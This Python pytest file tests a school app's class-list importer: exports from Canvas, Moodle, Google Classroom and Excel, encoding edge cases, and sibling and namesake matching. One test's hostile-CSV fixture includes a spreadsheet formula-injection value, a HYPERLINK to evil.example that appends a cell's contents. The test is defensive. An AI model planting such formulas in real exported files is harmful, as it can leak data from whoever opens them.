"""Class lists as schools really have them: the files of nine programs, and files that once went wrong."""

import pytest

from services.core import database
from services.courses.import_file import BrokenFile
from services.people import class_lists, list_entering, list_reading
from services.people.list_reading import NO_CHOICES, Choices, Fact, Fate, Person
from tests.factories.classes import CourseAtHand, a_course
from tests.support.shared_files import shared

pytestmark = [pytest.mark.req('C7')]

ROW = tuple[str, str, str]
"""name, address, group"""

LISTS: dict[str, list[ROW]] = {
    'canvas_gradebook.csv': [
        ('Ibai Castellano-Ruiz', '', 'BIO-101-01'),
        ('Haru Nakagawa', '', 'BIO-101-01'),
        ('Maartje van den Heuvel', '', 'BIO-101-02'),
    ],
    'de_excel_semicolon_cp1252.csv': [
        ('Änne Müller-Lüdenscheidt', 'aenne.ml@schule.example', '7b'),
        ('Jürgen Groß', 'juergen.gross@schule.example', '7b'),
        ('Sebnem Özdemir-Weiß', 'sebnem.oezdemir@schule.example', '7b'),
        ('Karl Freiherr; von Spatz', 'karl.spatz@schule.example', '7b'),
    ],
    'de_excel_unicode_utf16le_bom.txt': [
        ('Błażej Wołczek', 'blazej.wolczek@schule.example', '5a'),
        ('Željka Đurić', 'zeljka.duric@schule.example', '5a'),
        ('Олена Мельник', 'olena.melnyk@schule.example', '5a'),
    ],
    'fr_excel_sep_line_cp1252.csv': [
        ('Zoé Lefèvre', 'zoe.lefevre@college.example', '3°B'),
        ('Maël Dœuff', 'mael.doeuff@college.example', '3°B'),
        ('Noël Étienne-Ça', 'noel.etienne@college.example', '3°B'),
    ],
    'google_classroom_grades.csv': [
        ('Zofia Abernathy-Lund', 'zofia.abernathy@school.example', ''),
        ('Tunde Okonjo', 'tunde.okonjo@school.example', ''),
        ("Séamus O'Rourke, Jr.", 'seamus.orourke@school.example', ''),
        ('Łucja Ślęzak', 'lucja.slezak@school.example', ''),
    ],
    'moodle_participants.csv': [
        ('Ines Quandt', 'ines.quandt@uni.example', 'Tutorial A'),
        ('María José de la Fuente y Prado', 'mj.delafuente@uni.example', ''),
        ('Ines Quandt', 'ines.quandt2@uni.example', 'Tutorial B'),
    ],
    'moodle_uploaduser_example.csv': [
        ('Student One', 's1@example.com', ''),
        ('Student Two', 's2@example.com', ''),
        ('Student Three', 's3@example.com', ''),
    ],
}

CASES: dict[str, list[ROW]] = {
    '05-sep-line.csv': [('Lena Brandt', 'lena@example.org', '')],
    '07-empty-rows.csv': [(f'Student {n}', f's{n}@example.org', 'A') for n in range(1, 31)],
    '08-utf16-silently-wrong.txt': [('张华', '', '')],
    '08-utf16-tab.txt': [('Łucja Mróz', 'lucja@example.org', 'A'), ('Søren Ø', 'soren@example.org', 'B')],
    '09-blank-first-line.csv': [('Lena Brandt', 'lena@example.org', 'A')],
    '09-title-above-the-columns.csv': [('Lena Brandt', 'lena@example.org', 'A')],
    '10-siblings-one-address.csv': [
        ('Anna Roth', 'roth.family@example.org', ''),
        ('Ben Roth', 'roth.family@example.org', ''),
    ],
    '13-canvas-gradebook-points-possible.csv': [('Lena Brandt', '', '7b')],
    '13-canvas-gradebook.csv': [('Lena Brandt', '', '7b'), ('Omar Said', '', '7b')],
    '14-oneroster-users.csv': [('Lena Brandt', 'lena@example.org', '')],
    '15-clever-students.csv': [('Lena Brandt', 'lena@example.org', '')],
    '16-google-workspace.csv': [('Lena Brandt', 'lena@example.org', '')],
    '17-right-to-left-mark.csv': [('דנה לוי', 'dana@example.org', '')],
    '18-address-with-zero-width-space.csv': [('Sam Student', 'sam@example.org', '')],
    '19-last-comma-first.csv': [('Lena Brandt', '', ''), ('Omar Said', '', '')],
}


def rows(content: bytes, choices: Choices = NO_CHOICES) -> list[ROW]:
    return [(person.name, person.email, person.group) for person in list_reading.read(content, choices)]


async def bring(course: CourseAtHand, name: str, choices: Choices = NO_CHOICES) -> tuple[Person, ...]:
    people = list_reading.read(shared(f'cases/{name}'), choices)
    return await list_entering.bring_in(course.teacher, course.course_id, people, choices)


@pytest.mark.parametrize('name', LISTS)
def test_lists_of_other_programs(name: str) -> None:
    assert rows(shared(f'samples/class-lists/{name}')) == LISTS[name]


@pytest.mark.parametrize('name', CASES)
def test_lists_that_once_went_wrong(name: str) -> None:
    assert rows(shared(f'cases/{name}')) == CASES[name]


def test_of_several_groups_the_first_is_taken_and_the_others_are_shown() -> None:
    people = list_reading.read(shared('samples/class-lists/moodle_participants.csv'))
    assert (people[0].group, people[0].more_groups) == ('Tutorial A', ('Lab 2',))
    haru = list_reading.read(shared('samples/class-lists/canvas_gradebook.csv'))[1]
    assert (haru.group, haru.more_groups) == ('BIO-101-01', ('BIO-101-LAB',))


def test_a_list_of_addresses_alone_is_refused_until_a_column_is_chosen() -> None:
    content = shared('samples/class-lists/moodle_upload_grades.csv')
    with pytest.raises(BrokenFile, match='Line 1 must name the columns'):
        list_reading.read(content)
    assert rows(content, Choices(columns={'Email address': Fact.NAME})) == [('student1@example.com', '', '')]


def test_a_hostile_list_loses_no_good_line() -> None:
    content = shared('samples/class-lists/hostile.csv')
    with pytest.raises(BrokenFile) as refusal:
        list_reading.read(content)
    assert [str(problem).partition(':')[0] for problem in refusal.value.problems] == ['Line 9', 'Line 12']
    found = rows(content, Choices(skip_bad_lines=True))
    assert [name for name, _, _ in found] == [
        '=HYPERLINK("http://evil.example/?x="&A2,"click")',
        '+49 170 0000000',
        '@SUM(1+1)',
        'Two lines',
        'Trailing Space',
        'Dupe One',
        'No Mail',
        'Unclosed "quote',
    ]
    assert found[4][1] == found[5][1] == 'h5@school.example'


@pytest.mark.usefixtures('db')
@pytest.mark.both_databases
@pytest.mark.parametrize('name', ['10-siblings-one-address.csv', '11-namesakes-first.csv'])
async def test_siblings_and_namesakes_stay_two_people(name: str) -> None:
    course = await a_course()
    first, again = await bring(course, name), await bring(course, name)
    assert [person.fate for person in first] == [Fate.NEW] * 2
    assert [person.fate for person in again] == [Fate.HERE] * 2
    assert [person.user_id for person in first] == [person.user_id for person in again]


@pytest.mark.usefixtures('db')
async def test_the_same_namesakes_in_another_order_are_the_same_two() -> None:
    course = await a_course()
    first = await bring(course, '11-namesakes-first.csv')
    second = await bring(course, '11-namesakes-second.csv')
    assert [person.user_id for person in second] == [person.user_id for person in reversed(first)]
    assert {person.fate for person in second} == {Fate.HERE}
    assert [person.group for person in second] == ['B', 'A']


@pytest.mark.usefixtures('db')
async def test_a_namesake_beside_one_who_is_here_is_somebody_new() -> None:
    course = await a_course()
    (here,) = await bring(course, '12-namesake-here-first.csv')
    content = list_reading.read(shared('cases/12-namesake-new-second.csv'))
    planned = await database.read(class_lists.plan, course.teacher, course.course_id, content)
    assert [(person.fate, person.user_id) for person in planned] == [(Fate.HERE, here.user_id), (Fate.NEW, None)]
